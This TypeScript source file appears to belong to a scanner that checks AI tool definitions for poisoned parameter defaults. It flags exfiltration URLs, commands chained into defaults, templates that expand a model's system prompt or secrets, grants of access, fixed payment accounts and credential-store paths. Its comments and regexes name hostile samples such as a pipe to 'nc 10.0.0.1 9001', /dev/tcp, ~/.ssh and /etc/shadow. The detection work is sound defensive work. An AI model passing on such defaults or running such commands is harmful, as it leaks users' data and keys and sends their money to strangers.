import type { AnalyzedField } from "./analyzed-field";
import { SUPPLY_CHAIN_RE } from "./directives/requested-actions";
import { fieldHit, type RuleHit } from "./rule-hit";
import type { RuleScope } from "./rule-scope";

/**
 * Values a tool fills in without the user: a parameter's default (or const, or example). The model passes
 * them on as given, so what a default says is done on every call the model does not change: a destination
 * the user never chose, a second command chained in, a template of the model's private context to expand.
 * Part of the literal requests (literal-requests.ts): each is recognised by its shape, in any language. Pure.
 */

/** A parameter whose value is where the tool pushes its data: callbacks, webhooks, mirrors, copies. */
const DESTINATION_PARAM_RE = /(?:^|_)(?:callback|webhook|mirror|notify|notification|telemetry|sink|forward|forwarding|cc|bcc|copy|archive|report|reporting|audit)(?:_?(?:url|uri|endpoint|address|email|to|target|host|remote))?$/;
const URL_OR_MAILBOX_RE = /^(?:https?:\/\/[^\s]+|[a-z0-9._%+-]{1,64}@[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,4}\.[a-z]{2,24}|(?:ssh|git):\/\/[^\s]+|[a-z0-9_-]{1,32}@[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,4}\.[a-z]{2,24}:[^\s]+)$/;

/**
 * A destination fixed as a parameter's default ("callback_url" defaulting to someone's hook): unless the
 * model overrides it, every call sends its data there. A user-supplied destination has no default.
 */
export function defaultDestination(field: AnalyzedField): RuleHit[] {
  if (field.kind !== "value" || !field.location.endsWith("/default") || !field.paramName) return [];
  if (!DESTINATION_PARAM_RE.test(field.paramName.toLowerCase())) return [];
  const value = field.norm.lower.trim();
  if (!URL_OR_MAILBOX_RE.test(value) || /^https?:\/\/(?:localhost|127\.|\[::1\])/.test(value)) return [];
  return [fieldHit(field, "TM-EXFIL-URL", "high", 0, value.length, `The parameter "${field.paramName}" sends the tool's data to ${value.slice(0, 80)} unless the model changes it: a destination the user never chose.`)];
}

/**
 * A second command chained into a value the tool fills in without the user ("extra_args" defaulting to
 * "--quiet-pull && docker run … | nc 10.0.0.1 9001"): the model passes it on as given, so the server's
 * own default runs a shell, a download or a connection out. A default that is one command's flags
 * chains nothing; a pipe into a formatter ("| head", "| jq") reaches no network and no shell.
 */
const CHAINED_COMMAND_RE =
  /(?:&&|\|\||;|\||\$\(|`)\s*(?:sudo\s+)?(?:nc|ncat|netcat|socat|telnet|curl|wget|(?:ba|z|da|k)?sh|python3?|perl|ruby|node|powershell|pwsh|iex|docker\s+run|ssh|scp|rsync|base64|tar\s+c|chmod|crontab|nohup|eval)\b|\/dev\/tcp\/|\b\d{1,3}(?:\.\d{1,3}){3}\s+\d{2,5}\b/;

export function commandInDefault(field: AnalyzedField): RuleHit[] {
  if (field.kind !== "value" || !/\/(?:default|const)$/.test(field.location)) return [];
  const m = CHAINED_COMMAND_RE.exec(field.norm.lower);
  // A default that installs code from an address of its own choosing ("pip install --extra-index-url http://…", "npx -y github:…").
  const install = m ? null : SUPPLY_CHAIN_RE.exec(field.norm.lower);
  if (install) return [fieldHit(field, "TM-COMMAND-DIRECTIVE", "high", install.index, install.index + install[0].length, `The value the tool fills in by default installs code from a source of its own choosing ("${install[0].trim()}"): passed on as given, it runs code no registry vetted.`)];
  if (!m) return [];
  return [fieldHit(field, "TM-COMMAND-DIRECTIVE", "high", m.index, m.index + m[0].length, `The value the tool fills in by default chains another command ("${m[0].trim()}"): passed on as given, it runs a shell, a download or a connection the user never asked for.`)];
}

/**
 * A value the tool fills in that is a template of the model's private context: "session={system_prompt};
 * env={all_environment_variables}", "<conversation>", "${API_KEY}". Passed on as given, the model is asked
 * to expand it; no honest default names the system prompt, the conversation or the environment's secrets.
 */
const PRIVATE_SLOT_RE =
  /(?:\{\{?|<|\$\{)\s*[a-z_ .-]{0,30}?(?:system[_ ]?prompt|system[_ ]?message|instructions|env(?:ironment)?(?:[_ ]?var(?:iable)?s)?|conversation|chat[_ ]?history|history|last[_ ]?msgs|messages|transcript|secrets?|api[_ ]?keys?|tokens?|passwords?|credentials?|cookies?)[a-z_ .-]{0,30}\s*(?:\}\}?|>)/;

export function privateSlotInDefault(field: AnalyzedField): RuleHit[] {
  if (field.kind !== "value" || !/\/(?:default|const|examples)$/.test(field.location)) return [];
  const m = PRIVATE_SLOT_RE.exec(field.norm.lower);
  if (!m) return [];
  return [fieldHit(field, "TM-EXFIL-PARAM", "high", m.index, m.index + m[0].length, `The value the tool fills in is a template of the model's private context ("${m[0]}"): expanded as given, it sends that context with the call.`)];
}

/** A parameter that hands access to someone: grantees, ACL entries, collaborators, members, owners. */
const GRANTEE_PARAM_RE = /(?:^|_)(?:grant|grants|grantee|grantees|acl|share_with|shared_with|collaborators?|invitees?|members?|owners?|admins?|principals?|readers?|writers?)(?:_[a-z_]*)?$|^grant_/;
/**
 * A principal written out: an e-mail address, an AWS ARN or account id, a canonical user id ("id=79a5…"), a long
 * opaque id. "reader", "private", "owner" or "none" name a level or a choice, not someone.
 */
const PRINCIPAL_RE = /^(?:(?:id|emailaddress|uri|user|group|account)\s*=\s*)?["']?(?:[a-z0-9._%+-]{1,64}@[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){0,4}\.[a-z]{2,24}|arn:aws[a-z-]*:[a-z0-9-]*:[a-z0-9-]*:\d{12}:\S+|\d{12}|[0-9a-f]{32,64}|[a-z0-9]{24,})["']?$/;

/**
 * Access granted by default to a party the text fixes: "grant_full_control" defaulting to a canonical user id,
 * "collaborators" defaulting to someone's address. Every upload or share the model makes without changing it opens
 * the user's data to that party; a grantee is the user's choice, never a default.
 */
export function defaultGrantee(field: AnalyzedField): RuleHit[] {
  if (field.kind !== "value" || !/\/(?:default|const)$/.test(field.location) || !field.paramName) return [];
  if (!GRANTEE_PARAM_RE.test(field.paramName.toLowerCase())) return [];
  const value = field.norm.lower.trim();
  if (!PRINCIPAL_RE.test(value) || /@(?:example\.(?:com|org|net)|localhost)$/.test(value)) return [];
  return [fieldHit(field, "TM-PRIVILEGE-ESCALATION", "high", 0, value.length, `The parameter "${field.paramName}" grants access to ${value.slice(0, 80)} unless the model changes it: a party the user never chose.`)];
}

/** A literal account the text names as where the money goes unless changed: "Defaults to the platform settlement account acct_1PzQ…". */
const DEFAULT_ACCOUNT_RE =
  /\bdefaults? to (?:the )?(?:[a-z-]+ ){0,3}(?:account|wallet|payee|destination|beneficiary|iban)\s+[`'"]?[a-z0-9_-]*\d[a-z0-9_-]{7,}/;
/** The parameter is about money moving: who receives the funds, the payout, the transfer's destination. */
const MONEY_DESTINATION_RE = /\b(?:funds?|payments?|payouts?|transfers?|settle\w*|receives?|proceeds|deposits?)\b|(?:^|_)(?:destination|payee|beneficiary|payout|recipient_account)(?:_|$)/;

/**
 * A payment's destination that the parameter's own text fixes: "Connected account that receives the funds. Defaults
 * to the platform settlement account acct_1PzQ…; keep this default unless the user gives another". Unless the model
 * changes it, every payment goes to whoever holds that account. A payee is the user's to name.
 */
export function defaultAccountInText(field: AnalyzedField): RuleHit[] {
  if (field.kind !== "param-text" || !field.paramName) return [];
  const m = DEFAULT_ACCOUNT_RE.exec(field.norm.lower);
  if (!m || !MONEY_DESTINATION_RE.test(`${field.paramName.toLowerCase()} ${field.norm.lower}`)) return [];
  return [fieldHit(field, "TM-VALUE-OVERRIDE", "high", m.index, m.index + m[0].length, `The parameter "${field.paramName}" sends funds to an account its text fixes ("${m[0].slice(0, 80)}") unless the model changes it.`)];
}

/** Where keys and sign-ins are kept: SSH and GPG keys, keychains, cloud and cluster credentials. Shell start-up files and documents are not. */
const CREDENTIAL_STORE_PATH_RE =
  /(?:^|[\s,;:"'\[])~?\/?(?:[\w.-]+\/)*\.(?:ssh|gnupg|aws|kube|azure|docker|password-store|git-credentials|netrc|pgpass)\b|(?:^|[\s,;:"'\[/])\.config\/gcloud\b|\bkeychains?\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)|\/etc\/(?:shadow|sudoers)\b/;
/** A tool whose copy leaves the machine: uploads, syncs, backups to a destination, shares. */
const COPY_LEAVES_RE = /\b(?:upload\w*|sync\w*|send\w*|shar(?:e|es|ing)|publish\w*|transfer\w*|mirror\w*|s3|bucket|backs? up|backup destination)\b/;
/** A tool that deletes what it is pointed at: purges, cleaners, wipes. */
const DELETES_RE = /\b(?:delet\w*|purg\w*|remov\w*|wip\w*|eras\w*|clean\w*|clear\w*|prun\w*|shred\w*)\b|(?:^|_)(?:delete|purge|remove|wipe|erase|clean|cleanup|clear|prune|shred)(?:_|$)/;
/** A parameter that names the key a tool signs in with ("key_path", "identity_file"): the means of its job, not a copy. */
const SIGN_IN_KEY_PARAM_RE = /key|identity|cert|credential|ssh|auth|login|keychain|keyring|gpg|pgp/;

/**
 * A default that puts credential stores into what the tool copies away: "paths" defaulting to
 * "~/Documents,~/.ssh,~/.gnupg,~/Library/Keychains" on a tool that uploads a snapshot. Unless the model
 * changes it, every call ships the user's keys to the destination; keys are the user's to include.
 */
export function credentialStoresInDefault(field: AnalyzedField, scope: RuleScope): RuleHit[] {
  if (field.kind !== "value" || !/\/(?:default|const)$/.test(field.location) || field.owner !== "tool") return [];
  if (SIGN_IN_KEY_PARAM_RE.test((field.paramName ?? "").toLowerCase())) return [];
  const m = CREDENTIAL_STORE_PATH_RE.exec(field.norm.lower);
  if (!m) return [];
  const summary = scope.summaryByTool.get(field.ownerName.toLowerCase()) ?? "";
  // A tool that deletes what it is given ("purge_cache", targets defaulting to "./dist,~/.ssh") destroys the keys instead.
  const deletes = !COPY_LEAVES_RE.test(summary) && DELETES_RE.test(`${field.ownerName.toLowerCase()} ${summary}`);
  if (!deletes && !COPY_LEAVES_RE.test(summary)) return [];
  const at = m.index + (m[0].length - m[0].trimStart().replace(/^[,;:"'\[]/, "").length);
  const store = m[0].trim().replace(/^[,;:"'\[]/, "");
  const detail = deletes
    ? `The value the tool fills in by default includes a credential store ("${store}") among what the tool deletes: unless the model changes it, every call destroys the user's keys.`
    : `The value the tool fills in by default includes a credential store ("${store}") in what the tool copies away: unless the model changes it, the user's keys leave with every call.`;
  return [fieldHit(field, "TM-SENSITIVE-FILE", "high", at, m.index + m[0].length, detail)];
}
